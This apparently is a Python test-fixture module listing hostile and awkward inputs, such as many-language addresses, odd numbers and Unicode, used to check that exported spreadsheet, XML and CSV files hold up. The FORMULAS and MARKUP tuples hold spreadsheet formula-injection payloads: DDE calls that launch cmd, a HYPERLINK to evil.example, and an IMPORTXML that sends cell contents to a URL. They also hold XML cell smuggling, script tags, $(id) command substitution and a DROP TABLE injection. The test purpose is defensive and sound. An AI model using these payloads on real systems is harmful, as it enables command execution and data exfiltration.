"""Text that people may type and a file has to survive: hostile, awkward, and of many languages."""

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Typed:
    """One enquiry as somebody types it.

    :param more: further answers of the form.
    """

    name: str
    organisation: str
    message: str
    country: str = "CN"
    more: dict[str, str] = field(default_factory=dict)


LOCALES = (
    Typed("张伟", "广州示例新材料有限公司", "广州市黄埔区开源大道11号\n510530"),
    Typed(
        "陳大文", "香港範例有限公司", "香港中環皇后大道中99號", "HK", {"phone": "+852 2123 4567"}
    ),
    Typed("山田 太郎", "株式会社サンプル", "〒100-0005 東京都千代田区丸の内1-1-1", "JP"),
    Typed("김민수", "주식회사 예시", "서울특별시 중구 세종대로 110", "KR"),
    Typed("محمد بن عبد الله", "شركة المثال", "شارع الملك فهد، الرياض ‎12271‎", "SA"),
    Typed("דוד כהן", "חברת דוגמה בע״מ", "רחוב הרצל 1, תל אביב", "IL"),
    Typed("فاطمه رضایی", "شرکت نمونه", "تهران، خیابان ولی‌عصر", "IR"),
    Typed("अमित शर्मा", "उदाहरण प्राइवेट लिमिटेड", "१२, महात्मा गांधी मार्ग, दिल्ली", "IN"),
    Typed("สมชาย ใจดี", "บริษัท ตัวอย่าง จำกัด", "99 ถนนสุขุมวิท กรุงเทพฯ", "TH"),
    Typed("Nguyễn Thị Ánh", "Công ty TNHH Ví Dụ", "Số 1 Đường Lê Lợi, Quận 1", "VN"),
    Typed("Александр Ёлкин", "ООО «Пример»", "ул. Тверская, д. 1, кв. 5", "RU"),
    Typed("Ιωάννης Παπαδόπουλος", "Παράδειγμα Α.Ε.", "Λεωφόρος Αθηνών 1", "GR"),
    Typed("Þóra Ægisdóttir", "Dæmi ehf.", "Laugavegur 1, 101 Reykjavík", "IS"),
    Typed("Łukasz Żółć", "Przykład Sp. z o.o.", "ul. Świętokrzyska 1/2", "PL"),
    Typed("Özgür Şahin", "Örnek A.Ş.", "İstiklal Caddesi No: 1, İstanbul", "TR"),
    Typed("Jürgen Groß", "Müßig & Söhne GmbH", "Straße des 17. Juni 135", "DE"),
    Typed("Anne-Hélène L’Œuvre", "Société d’Exemple", "1, rue de l’Église — 75001", "FR"),
    Typed("José Nuñez Ibáñez", "Ejemplo, S.A.", "C/ Alcalá, 1, 2.º izq.", "ES"),
    Typed("João Conceição", "Exemplo Lda", "Av. da Liberdade, n.º 1", "PT"),
    Typed("Zoë O'Neill", "O'Neill & Co", "1 St Stephen's Green", "IE"),
    Typed("'t Hooft", "'s-Hertogenbosch BV", "'s Gravendijkwal 1", "NL"),
    Typed("Åsa Öberg", "Exempel AB", "Östra Ågatan 1", "SE"),
    Typed("Kovács Éva", "Példa Kft.", "Őrház u. 1", "HU"),
    Typed("Dvořák Jiří", "Příklad, s.r.o.", "Žižkova 1", "CZ"),
    Typed("გიორგი ბერიძე", "მაგალითი", "რუსთაველის 1", "GE"),
    Typed("Տիգրան Սարգսյան", "Օրինակ", "Երևան", "AM"),
    Typed("தமிழ்ச்செல்வி", "எடுத்துக்காட்டு", "சென்னை", "LK"),
    Typed("አበበ ቢቂላ", "ምሳሌ", "አዲስ አበባ", "ET"),
    Typed("Sukarno", "PT Contoh", "Jl. Sudirman 1", "ID"),
    Typed("ཚེ་རིང", "དཔེ་མཚོན", "ལྷ་ས"),
)
"""Names and addresses of thirty languages, from right to left among them."""

FORMULAS = (
    Typed("=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example","see")'),
    Typed("+1+1", "-1+1", "@SUM(1+9)*cmd|' /C calc'!A0"),
    Typed("＝1+1", "＋1", "－1\n＠x"),
    Typed("{=1+1}", '=DDE("cmd";"/C calc";"x")', '=IMPORTXML(CONCAT("https://x/?",A1:B2),"//a")'),
    Typed("%0A=1", ';=1+1;","=1', '","=1+1","'),
    Typed("'=1+1", "''=1", "'"),
    Typed("\u200b=1+1", "\u2060+1", "\u200e=1\u200f"),
    Typed("\u202e=1+1", "\u2066@x\u2069", "a\tb\n=1\n\t=2"),
    Typed("#REF!", "#NAME?", "TRUE"),
)
"""Text that a spreadsheet program would evaluate, and text that looks like it."""

MARKUP = (
    Typed(
        "<r><t>x</t></r>",
        '<r><t/></r></is></c><c r="C1"><f>1+1</f></c><c r="D1" t="inlineStr"><is><r><t/></r>',
        "<f>1+1</f>",
    ),
    Typed("_x0041_", "_x005F_x0041_", "_x000D_\n__x0009__ _x00g1_ _xFFFF_"),
    Typed("&amp; &#65; &lt;", "<!-- ]]> -->", "<script>alert(1)</script>"),
    Typed('say "hi"', '""', '"\n""\n,",\n"'),
    Typed("a,b;c|d", "\\n\\,\\;\\\\", "BEGIN:VCARD\nEND:VCARD\nNOTE:x"),
    Typed('{"a": 1}', "\\u0041\\", "null"),
    Typed("%s %d {0} {name}", "$(id) `id`", "'; DROP TABLE lead;--"),
)
"""Text made of the syntax of the formats themselves."""

NUMBERS = (
    Typed("007", "00123", "0"),
    Typed("12345678901234567890", "440101199001011234", "3.14159265358979323846"),
    Typed("1e5", "1E+05", "0x1F"),
    Typed("2026-03-04", "3/4", "MAR1\nSEPT2\n1-2"),
    Typed("1,000", "1.000,00", "¥1,000\n€ 5"),
    Typed("NaN", "Infinity", "-0"),
    Typed("١٢٣", "１２３", "½ ² ³"),
)
"""Text that a program would take for a number or a date, and spoil."""

SHAPES = (
    Typed("A" * 200, "组" * 200, "x" * 3_990 + "\n尾"),
    Typed("🏭" * 200, "👨‍👩‍👧‍👦 🏳️‍🌈", "🏭" * 4_000),
    Typed("é e\u0301", "ﬁ ﬃ Å \u212b", "Z\u0335\u0321a\u0338l\u0337g\u0334o\u0335"),
    Typed("\ufeffmark", "so\u00adft", "zero\u200bwidth\u200cjoin\u200d"),
    Typed("a\u00a0b\u2003c", "x\u2028y", "line\u2028para\u2029next\ue000private"),
    Typed("no\ufffechar", "no\uffffacter", "\ufffe\uffff"),
    Typed("\U000e0041tag", "\U00010000\U0010ffff", "\ufdd0 \U0001fffe"),
    Typed("~", ".", "\n".join("一二三四五") + "\n\n\n-end"),
    Typed("undefined", "NULL", "None\nnil\n(null)"),
)
"""Long, astral, combining, invisible and unassigned."""

PHONES = (
    Typed(
        "P1", "O", "m", "CN", {"phone": "+86 20 8211 0000", "website": "https://例子.中国/路径?q=1"}
    ),
    Typed("P2", "O", "m", "DE", {"phone": "+49 (0)30 123456-0", "job_title": "Dipl.-Ing."}),
    Typed("P3", "O", "m", "US", {"phone": "+1-800-555-0199", "job_title": "=VP"}),
    Typed("P4", "O", "m", "GB", {"phone": "020 7946 0018", "job_title": "+Chair"}),
)
"""Numbers that begin with a plus or with a zero."""

CORPUS = (*LOCALES, *FORMULAS, *MARKUP, *NUMBERS, *SHAPES, *PHONES)
